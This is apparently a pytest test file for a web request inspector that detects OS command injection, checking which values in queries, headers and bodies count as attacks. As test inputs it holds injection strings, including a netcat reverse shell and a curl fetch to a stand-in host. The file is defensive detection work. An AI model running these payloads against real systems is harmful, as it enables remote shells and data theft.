from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec
import pytest
from gatelens.decoders.decoded import Decoded
from gatelens.decoders.segment import NamedSegment
from gatelens.inspection import Explaining, Hit, Target, View
from gatelens.inspectors.os_command import Inspector, Params
from gatelens.model.explanation import Tree
from gatelens.model.finding import Match
from gatelens.model.location import WHOLE_MESSAGE, Location, Part
from gatelens.model.message import Message, Phase
from gatelens.model.rule import Rule, RuleFile
from gatelens.ruleset.loader import rule_from
from ruamel.yaml import YAML

RULE_FILE = Path(__file__).parents[2] / "rules/injection/os-command.yaml"
FILE: dict[str, Any] = YAML(typ="safe").load(RULE_FILE)
REQUEST = Message(phase=Phase.REQUEST, method="POST", target="/", headers=(), body=b"", time=1_800_000_000.0)


def rule(name: str = "os-command", **params: Any) -> Rule:
    file = {**FILE, "id": name, "params": {**FILE["params"], **params}}
    made = rule_from(msgspec.convert(file, RuleFile), "test.yaml")
    assert made is not None
    return made


RULE = rule()
INSPECTOR = Inspector([RULE])


def hits(*values: str, part: Part = Part.QUERY, field: str = "q", key: bool = False) -> list[Hit]:
    segment = NamedSegment(part, [field] * len(values), values, key=key)
    return [Hit(RULE, Target(segment, index, value)) for index, value in enumerate(values)]


def inspect(*values: str, inspector: Inspector = INSPECTOR, **place: Any) -> list[Match]:
    """The matches where every value was named by a trigger."""
    decoded = Decoded()
    decoded.content = "\n".join(values).encode("utf-8", "replace")
    return list(inspector.inspect(View(REQUEST, decoded, (RULE,), hits(*values, **place))))


def test_a_match_says_where_what_and_why() -> None:
    assert inspect("plain", "zz;whoami") == [
        Match(
            rule="os-command",
            location=Location(Part.QUERY, "q[1]"),
            evidence=";whoami",
            explanation="ends the command with a semicolon: tells about the system; POSIX shell",
        )
    ]


def test_the_explanation_holds_no_word_of_the_value() -> None:
    for value in ("zz;cat hunter2.txt", "zz$(curl http://192.0.2.7/hunter2)", ";h'unt'er2;who'a'mi"):
        for match in inspect(value):
            assert "hunter2" not in match.explanation


def test_triggers_are_the_rules_patterns_with_the_names_in_their_places() -> None:
    expressions = [trigger.expression for trigger in INSPECTOR.triggers]
    assert len(expressions) == len(FILE["params"]["patterns"])
    assert not any("<telling>" in expression or "<everyday>" in expression for expression in expressions)
    assert any("whoami" in expression for expression in expressions)


def test_a_rule_may_list_other_commands() -> None:
    own = Inspector([rule(unix={"waits": ["brew-tea"]}, windows={}, everyday=[])])
    assert inspect("zz;brew-tea", inspector=own)
    assert not inspect("zz;whoami", inspector=own)
    assert not inspect("zz;brew-tea")


def test_an_effect_that_is_not_known_is_a_fault_of_the_rule() -> None:
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert({"patterns": ["a"], "unix": {"makes tea": ["brew"]}}, Params)


@pytest.mark.parametrize(
    ("part", "field", "found"),
    [
        (Part.QUERY, "cmd", True),
        (Part.FORM, "cmd", True),
        (Part.QUERY, "title", True),
        (Part.HEADER, "user-agent", True),
        (Part.BODY, "cmd", False),
    ],
)
def test_a_whole_command_line_counts_where_none_has_a_place_or_a_web_shell_takes_one(
    part: Part, field: str, found: bool
) -> None:
    assert bool(inspect("ifconfig -a", part=part, field=field)) is found


@pytest.mark.parametrize(
    ("value", "found"),
    [
        ("ls -la /srv", True),
        ("zz=uu;id", True),
        ("|date", True),
        ("cmd /c ver", True),
        ("$HOME", True),
        ("${zz%%u}", True),
        ("~-1", True),
        ("ping google", False),
        ("git commit --amend", False),
        ("npm install --save zz", False),
        ("cat /etc/passwd meaning", False),
        ("${name}", False),
        ("date |", False),
        ("~5", False),
    ],
)
def test_in_one_line_what_attackers_look_around_with_counts_and_tools_of_work_do_not(value: str, found: bool) -> None:
    assert bool(inspect(value, part=Part.QUERY, field="zz")) is found


@pytest.mark.parametrize(("value", "found"), [("ping", False), ("docker", False), ("uptime", True)])
def test_a_word_alone_in_a_header_is_a_command_only_where_it_tells_about_the_system(value: str, found: bool) -> None:
    assert bool(inspect(value, part=Part.HEADER, field="zz")) is found


@pytest.mark.parametrize(("value", "found"), [("| ls -l /srv/", True), ("zz | ls -l /srv/", False), ("|", False)])
def test_a_command_line_by_design_does_not_begin_with_a_separator(value: str, found: bool) -> None:
    assert bool(inspect(value, part=Part.BODY, field="command")) is found


def test_a_field_of_commands_by_design_is_told_by_its_name() -> None:
    assert inspect("zz; whoami", part=Part.BODY, field="note")
    assert not inspect("zz; whoami", part=Part.BODY, field="entrypoint")
    assert inspect("zz; nc 192.0.2.7 80 -e /bin/sh", part=Part.BODY, field="entrypoint")


def test_more_than_may_be_read_of_one_message_is_a_match_of_the_whole() -> None:
    found = inspect(*[f"{n} a b c d; ls of the house" + " and" * 90 for n in range(3_000)])
    assert not found or found[-1].location is not WHOLE_MESSAGE
    attacks = inspect(*[f"zz{n};whoami" for n in range(150)])
    assert [match.location is WHOLE_MESSAGE for match in attacks] == [False] * 100 + [True]


def labels(tree: Tree) -> list[str]:
    return [tree.piece or tree.label, *[label for child in tree.children for label in labels(child)]]


def test_the_drawing_shows_the_commands_that_the_value_brings() -> None:
    assert isinstance(INSPECTOR, Explaining)
    (hit,) = hits("zz; cat x | sh")
    drawn = INSPECTOR.explain(hit)
    assert drawn is not None
    assert drawn.context == "an argument of a command of a POSIX shell"
    assert labels(drawn.harmless) == ["command", "a program", "argument: value"]
    assert {"cat", "sh", "then", "its output goes to"} <= set(labels(drawn.attack))
    assert len(labels(drawn.attack)) <= 12


def test_a_harmless_value_is_not_drawn() -> None:
    (hit,) = hits("plain")
    assert INSPECTOR.explain(hit) is None
